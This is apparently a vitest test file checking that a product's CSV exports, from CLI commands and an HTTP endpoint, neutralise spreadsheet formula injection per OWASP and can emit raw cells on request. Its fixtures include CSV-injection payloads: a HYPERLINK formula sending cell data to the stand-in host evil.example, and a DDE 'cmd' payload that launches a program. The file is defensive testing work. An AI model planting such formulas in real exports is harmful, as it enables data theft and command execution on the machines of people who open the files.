import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCliInProcess, type CliRun } from '../../helpers/serving/cli-in-process.js';
import { registeredStorage } from '../../helpers/serving/registered-storage.js';
import { buildApp } from '../../../src/http/app.js';
import { csvCell, csvText } from '../../../src/sql/answers/result-values.js';
import { ModelStorage } from '../../graph/model-storage.js';

/**
 * CSV that a spreadsheet opens safely: a text beginning with =, +, -, @, a tab or a carriage return
 * gets a ' in front (OWASP's rule against CSV injection) in every CSV the product writes (`sql
 * --format csv`, `export --format csv` of one type and of the tables, `Accept: text/csv`), unless
 * raw values are asked for (`--raw-csv`, `rawCsv=true`); quotes are doubled (RFC 4180).
 */

const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"open")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\tx', '\rx', '-12.5', 'say "hi", twice', 'plain'];
/** The same texts as RFC 4180 cells, neutralised. */
const SAFE = ['"\'=HYPERLINK(""http://evil.example/?""&A1,""open"")"', "'+1+cmd|' /C calc'!A0", "'-2+3", "'@SUM(A1:A9)", "'\tx", '"\'\rx"', '-12.5', '"say ""hi"", twice"', 'plain'];
/** And raw. */
const RAW = ['"=HYPERLINK(""http://evil.example/?""&A1,""open"")"', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', '\tx', '"\rx"', '-12.5', '"say ""hi"", twice"', 'plain'];

const cli = (...args: string[]): Promise<CliRun> => runCliInProcess(args);

/** A VALUES list of the texts as SQL literals (a tab and a carriage return are plain characters in one). */
const valuesSql = `SELECT v AS "the ""text""" FROM (VALUES ${HOSTILE.map((t, i) => `(${i}, '${t.replace(/'/g, "''")}')`).join(', ')}) AS t(i, v) ORDER BY i`;

describe('CSV cells', () => {
  it('neutralises formulas, leaves plain numbers and doubles quotes', () => {
    expect(HOSTILE.map((t) => csvText(t))).toEqual(SAFE);
    expect(HOSTILE.map((t) => csvText(t, 'raw'))).toEqual(RAW);
    expect([csvCell(null), csvCell(-7), csvCell('-9223372036854775808'), csvCell('+3e8'), csvCell('-'), csvCell('=')]).toEqual(['', '-7', '-9223372036854775808', '+3e8', "'-", "'="]);
  });

  let base: string;
  let storage: string;
  beforeAll(() => {
    base = mkdtempSync(join(tmpdir(), 'csv-cells-'));
    storage = join(base, 'storage');
    const model = ModelStorage.create(storage, 1);
    const nodes = HOSTILE.map((name, i) => model.putNode({ name, weight: -i }));
    model.setRoot(model.putNode({ name: 'root', children: model.putList(nodes) }));
    model.commit();
    model.close();
  });
  afterAll(() => rmSync(base, { recursive: true, force: true }));

  it('sql --format csv, safe by default and raw with --raw-csv', async () => {
    const safe = await cli('sql', storage, valuesSql, '--format', 'csv');
    expect(safe.code).toBe(0);
    expect(safe.stdout).toBe(`"the ""text"""\r\n${SAFE.join('\r\n')}\r\n`);
    const raw = await cli('sql', storage, valuesSql, '--format', 'csv', '--raw-csv');
    expect(raw.stdout).toBe(`"the ""text"""\r\n${RAW.join('\r\n')}\r\n`);
  });

  it('export --format csv of a type and of the tables', async () => {
    /** The line of each node (found by its weight, the last cell) holds the expected name cell. */
    const expectNames = (csv: string, expected: readonly string[]): void => {
      const lines = csv.split('\r\n');
      expected.forEach((cell, i) => {
        const line = lines.find((l) => l.endsWith(`,${-i}`) && !l.includes(',root,'));
        expect(line).toContain(`,${cell},`);
      });
    };
    const one = await cli('export', storage, '--type', 'gen.Node', '--format', 'csv');
    expect(one.code).toBe(0);
    expectNames(one.stdout, SAFE);
    const oneRaw = await cli('export', storage, '--type', 'gen.Node', '--format', 'csv', '--raw-csv');
    expectNames(oneRaw.stdout, RAW);
    for (const [dir, flags, expected] of [
      ['tables', [], SAFE],
      ['tables-raw', ['--raw-csv'], RAW],
    ] as const) {
      const out = join(base, dir);
      const result = await cli('export', storage, '--format', 'csv', '--out', out, ...flags);
      expect(result.code).toBe(0);
      const file = readdirSync(out).find((f) => f.startsWith('gen.Node'))!;
      const csv = readFileSync(join(out, file), 'utf8');
      const header = csv.slice(0, csv.indexOf('\r\n')).split(',');
      expect(header).toContain('name');
      for (const cell of expected) expect(csv).toContain(`,${cell},`);
    }
  });

  it('POST /api/v1/sql with Accept: text/csv, safe by default and raw with rawCsv=true', async () => {
    const opened = await registeredStorage(storage);
    const app = buildApp(opened.storage, { instance: 'microstream', api: opened.registry, sql: {} });
    try {
      const ask = (url: string) => app.inject({ method: 'POST', url, payload: JSON.stringify({ sql: valuesSql }), headers: { 'content-type': 'application/json', accept: 'text/csv' } });
      const safe = await ask('/api/v1/sql');
      expect(safe.statusCode).toBe(200);
      expect(safe.body).toBe(`"the ""text"""\r\n${SAFE.join('\r\n')}\r\n`);
      const raw = await ask('/api/v1/sql?rawCsv=true');
      expect(raw.body).toBe(`"the ""text"""\r\n${RAW.join('\r\n')}\r\n`);
      const document = (await app.inject({ method: 'GET', url: '/docs/json' })).json() as { paths: Record<string, { post?: { parameters?: { name: string; in: string; description?: string }[] } }> };
      const parameter = document.paths['/api/v1/sql']?.post?.parameters?.find((p) => p.name === 'rawCsv');
      expect(parameter?.in).toBe('query');
      expect(parameter?.description).toMatch(/OWASP/);
    } finally {
      await app.close();
      await opened.close();
    }
  });
});
